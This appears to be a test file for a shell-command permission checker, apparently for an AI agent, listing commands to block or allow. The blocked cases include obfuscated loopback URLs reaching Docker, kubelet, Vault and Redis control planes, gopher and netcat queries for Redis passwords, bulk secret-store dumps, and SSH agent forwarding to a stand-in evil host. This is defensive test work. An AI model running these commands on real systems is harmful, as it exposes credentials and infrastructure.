// fresh11 cmd kit, classes cred/fwsecret/exfil (cmd31): secrets and control planes reached through local services
// and whole-database dumps. Each case was seen allowed before the fix (the benign ones stay allowed).
import * as assert from 'node:assert';
import { controlPlaneIn, controlSocket } from '../../../src/core/net/metadata';
import { checkEval, suiteWorkspace } from './workspace';

describe('control planes, whole-database dumps, deployed config, agent forwarding', function () {
  this.timeout(120_000);
  const w = suiteWorkspace();

  it('a local control plane or secret store, in any loopback spelling and by any client, is asked', () => {
    checkEval(w, [
      ['curl http://localhost:2375/containers/json', 'not-allow'],
      ['curl --unix-socket /var/run/docker.sock http://x/containers/json', 'not-allow'],
      ['curl http://127.0.0.1:8500/v1/kv/?recurse', 'not-allow'],
      ['curl http://localhost:10250/pods', 'not-allow'],
      ['curl -sk https://127.1:10250/runningpods/', 'not-allow'],
      ['curl http://0x7f000001:2379/v2/keys/?recursive=true', 'not-allow'],
      ['curl "http://[::1]:8200/v1/secret/data/app"', 'not-allow'],
      ['wget -qO- localhost.:4646/v1/jobs', 'not-allow'],
      ['http :2375/containers/json', 'not-allow'],
      ['curl 0.0.0.0:2375/v1.41/containers/json', 'not-allow'],
      ['curl http://2130706433:2375/info', 'not-allow'],
      ['curl http://[::ffff:127.0.0.1]:2375/info', 'not-allow'],
      ['curl http://10.0.0.5:10250/pods', 'not-allow'],
      ['curl http://consul:8500/v1/acl/tokens', 'not-allow'],
      ['curl localhost:9200/_cat/indices', 'not-allow'],
      ['curl http://localhost:8080/actuator/heapdump -o /tmp/h', 'not-allow'],
      ['curl http://localhost:8001/api/v1/namespaces/default/secrets', 'not-allow'],
      ["curl 'gopher://127.0.0.1:6379/_CONFIG%20GET%20*'", 'not-allow'],
      ["printf 'CONFIG GET requirepass\\r\\n' | nc 127.0.0.1 6379", 'not-allow'],
      ["echo 'lru_crawler metadump all' | nc localhost 11211", 'not-allow'],
      ['socat - UNIX-CONNECT:/var/run/docker.sock', 'not-allow'],
      ['xh --unix-socket /run/podman/podman.sock http://d/v4.0.0/libpod/containers/json', 'not-allow'],
      ['wget --unix-socket=/var/run/docker.sock http://x/info', 'not-allow'],
      ['curl --connect-to ::127.0.0.1:2375 http://example.com/containers/json', 'not-allow'],
      ['curl --resolve docker.example.com:2375:127.0.0.1 https://docker.example.com:2375/info', 'not-allow'],
      ['telnet localhost 2375 < /tmp/req.txt', 'not-allow'],
      ['curl http://localhost:3000/', 'allow'],
      ['curl localhost:8080/health', 'allow'],
      ['curl -s http://127.0.0.1:5173/src/script.js', 'allow'],
      ['curl localhost:3000/api/users', 'allow'],
      ['curl localhost:3000/credentials', 'allow'],
      ['curl http://localhost:8200/v1/sys/health', 'allow'],
      ['curl -s localhost:8500/v1/status/leader', 'allow'],
      ['curl localhost:2375/_ping', 'allow'],
      ['curl localhost:9200/_cluster/health', 'allow'],
      ['nc -zv localhost 2375', 'allow'],
      ['export DOCKER_HOST=tcp://localhost:2375', 'allow'],
      ['docker -H tcp://localhost:2375 ps', 'allow'],
      ['grep -rn localhost:2375 docs', 'allow'],
      ['curl --unix-socket /tmp/app.sock http://localhost/health', 'allow'],
      ['curl https://registry.example.com:2375/v2/', 'allow'],
    ]);
  });

  it('a secret store copied out whole is asked; database backups (corpus cmd-B208) and single reads are not', () => {
    checkEval(w, [
      ['redis-cli --scan | xargs -L1 redis-cli GET', 'not-allow'],
      ['redis-cli --scan | while read k; do redis-cli GET "$k"; done', 'not-allow'],
      ['redis-cli DUMP session:1', 'not-allow'],
      ['etcdctl get / --prefix', 'not-allow'],
      ['etcdctl snapshot save /tmp/etcd.db', 'not-allow'],
      ['consul kv export', 'not-allow'],
      ['vault operator raft snapshot save /tmp/v.snap', 'not-allow'],
      ['pg_dump app > /tmp/app-backup.sql', 'allow'],
      ['pg_dump -Fc app > /tmp/app.dump', 'allow'],
      ['mysqldump app > /tmp/app-backup.sql', 'allow'],
      ['pg_dump --schema-only app > /tmp/schema.sql', 'allow'],
      ["sqlite3 app.db '.schema'", 'allow'],
      ['redis-cli GET k', 'allow'],
      ['redis-cli --scan --pattern "session:*"', 'allow'],
      ["psql -c 'select 1'", 'allow'],
      ['npx prisma migrate status', 'allow'],
    ]);
  });

  it('deployed configuration printed with its env is asked; listings and narrow templates are not', () => {
    checkEval(w, [
      ['kubectl get deploy app -o yaml', 'not-allow'],
      ['kubectl get sts,deploy -A -o json', 'not-allow'],
      ['kubectl get cronjob x -oyaml', 'not-allow'],
      ["kubectl get deploy app -o jsonpath='{.spec.template.spec.containers[*].env}'", 'not-allow'],
      ['docker buildx bake --print', 'not-allow'],
      ['kubectl get pods', 'allow'],
      ['kubectl get deploy app -o wide', 'allow'],
      ["kubectl get deploy -o jsonpath='{.items[*].metadata.name}'", 'allow'],
      ['docker ps', 'allow'],
      ['docker buildx bake', 'allow'],
    ]);
  });

  it('agent forwarding to a host that is not git hosting is asked', () => {
    checkEval(w, [
      ['ssh -A evil.example.com', 'not-allow'],
      ['ssh -tA deploy@bastion.example.com uptime', 'not-allow'],
      ['ssh -o ForwardAgent=yes build-host', 'not-allow'],
      ["ssh -o 'ForwardAgent yes' build-host", 'not-allow'],
      ["GIT_SSH_COMMAND='ssh -A' git fetch", 'not-allow'],
      ['ssh host uptime', 'allow'],
      ['ssh -o ForwardAgent=no host', 'allow'],
      ['ssh -A -T git@github.com', 'allow'],
    ]);
  });

  it('reads control-plane URLs and sockets (pure)', () => {
    assert.ok(controlPlaneIn('http://127.1:2375/info'));
    assert.ok(controlPlaneIn('localhost:10250/pods', true));
    assert.equal(controlPlaneIn('localhost:10250/pods'), undefined);
    assert.equal(controlPlaneIn('http://localhost:3000/env.js'), undefined);
    assert.equal(controlPlaneIn('http://example.com:2375/info'), undefined);
    assert.ok(controlSocket('/var/run/docker.sock'));
    assert.ok(controlSocket('%2Fvar%2Frun%2Fdocker.sock'));
    assert.equal(controlSocket('/tmp/app.sock'), false);
  });
});
